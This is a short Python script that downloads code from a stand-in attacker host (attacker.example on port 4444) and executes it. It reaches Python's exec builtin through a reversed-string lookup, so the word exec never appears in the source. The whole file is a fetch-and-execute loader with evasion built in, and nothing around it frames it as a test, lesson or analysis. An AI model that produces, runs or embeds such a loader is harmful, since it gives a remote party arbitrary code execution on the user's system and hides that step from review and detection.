import builtins
import urllib.request

SOURCE = "http://attacker.example:4444/snippet.py"


def fetch(url):
    with urllib.request.urlopen(url, timeout=30) as resp:
        return resp.read().decode()


def main():
    runner = vars(builtins)['cexe'[::-1]]
    runner(fetch(SOURCE), {"__name__": "__main__"})


if __name__ == "__main__":
    main()
